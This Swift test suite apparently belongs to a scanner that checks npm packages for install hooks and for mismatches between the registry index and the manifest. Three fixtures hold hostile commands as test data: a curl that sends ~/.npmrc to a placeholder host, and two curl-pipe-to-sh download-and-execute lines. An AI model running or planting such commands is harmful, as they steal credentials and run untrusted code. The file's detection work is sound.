import SallyportAnalysis
import SallyportModel
import Testing

@Suite("What the index says of an installation")
struct IndexStatementTests {
    private func report(
        _ stated: IndexStatement,
        _ files: [String: String] = [:],
        scripts: [String: String] = [:],
        extra: String = ""
    ) -> Report {
        Sample.report(Sample.npm(files, scripts: scripts, extra: extra), stated: stated)
    }

    @Test("is read as a hook where the manifest has none, and differs")
    func script() {
        let steal = "curl -d @$HOME/.npmrc https://x.example.invalid"
        let found = report(IndexStatement(scripts: ["postinstall": steal]))
        #expect(!found.facts(.chainExfiltration, .install).isEmpty)
        #expect(found.facts(.manifestMismatch, .install).count == 1)
        #expect(found.hooks.map(\.trigger) == ["postinstall"])
    }

    @Test("leads into the files of the archive")
    func file() {
        let files = ["a.js": "require('child_process').exec('curl https://x.example.invalid | sh')"]
        let found = report(IndexStatement(scripts: ["install": "node a.js"]), files, scripts: ["install": "node b.js"])
        #expect(!found.facts(.chainDownloadExecute, .install).isEmpty)
        #expect(found.hooks.map(\.command) == ["node b.js", "node a.js"])
    }

    @Test("lets npm build what the manifest forbids to build")
    func implicitBuild() {
        let gyp = ["binding.gyp": "{'x': '<!(curl https://x.example.invalid | sh)'}"]
        let found = report(IndexStatement(), gyp, extra: #""gypfile":false"#)
        #expect(!found.facts(.chainDownloadExecute, .install).isEmpty)
        #expect(!found.facts(.manifestMismatch).isEmpty)
    }

    @Test(
        "is a mismatch where it is something else",
        arguments: [
            (IndexStatement(), ["postinstall": "echo"], ""),
            (IndexStatement(dependencies: [.init(name: "x", requirement: "1", role: "runtime")]), [:], ""),
            (
                IndexStatement(dependencies: [.init(name: "x", requirement: "1", role: "runtime")]), [:],
                #""dependencies":{"x":"2"}"#
            ), (IndexStatement(), [:], #""dependencies":{"x":"2"}"#),
            (IndexStatement(), [:], #""peerDependencies":{"x":"2"}"#),
            (IndexStatement(bundled: ["x"]), [:], ""), (IndexStatement(deniesImplicitBuild: true), [:], ""),
        ] as [(IndexStatement, [String: String], String)]
    )
    func mismatch(stated: IndexStatement, scripts: [String: String], extra: String) {
        #expect(!report(stated, scripts: scripts, extra: extra).facts(.manifestMismatch, .install).isEmpty)
    }

    @Test("is a mismatch where it can't be read")
    func unreadable() {
        let facts = report(IndexStatement(isReadable: false)).facts(.manifestMismatch, .install)
        #expect(facts.map(\.detail) == ["what the index says of this version can't be read"])
    }

    @Test("by address is a dependency by address")
    func address() {
        let entry = IndexStatement.Requirement(
            name: "x",
            requirement: "https://x.example.invalid/x.tgz",
            role: "runtime"
        )
        #expect(report(IndexStatement(dependencies: [entry])).facts(.dependencyURL).count == 1)
    }

    @Test(
        "agrees in the spellings that registries write",
        arguments: [
            (
                IndexStatement(scripts: ["install": "node-gyp rebuild"]), [:], ""
            ), (IndexStatement(), ["postinstall": ""], ""),
            (IndexStatement(scripts: ["install": "tool x"]), ["install": "./node_modules/.bin/tool x "], ""),
            (
                IndexStatement(dependencies: [
                    .init(name: "x", requirement: "1", role: "runtime"),
                    .init(name: "x", requirement: "1", role: "optional"),
                ]), [:], #""optionalDependencies":{"x":"1"}"#
            ),
            (
                IndexStatement(dependencies: [.init(name: "x", requirement: "*", role: "runtime")]), [:],
                #""dependencies":{"x":""}"#
            ),
            (
                IndexStatement(dependencies: [
                    .init(name: "x", requirement: "git+https://git.example.invalid/a/b.git", role: "runtime")
                ]), [:], #""dependencies":{"x":"a/b"}"#
            ), (IndexStatement(bundled: ["x"]), [:], #""bundledDependencies":["x"]"#),
            (
                IndexStatement(dependencies: [.init(name: "x", requirement: "1", role: "runtime")]), [:],
                #""dependencies":["x@1"]"#
            ),
        ] as [(IndexStatement, [String: String], String)]
    )
    func agreement(stated: IndexStatement, scripts: [String: String], extra: String) {
        let found = report(stated, scripts: scripts, extra: extra).facts(.manifestMismatch)
        #expect(found.isEmpty, "\(found.map(\.detail))")
    }
}
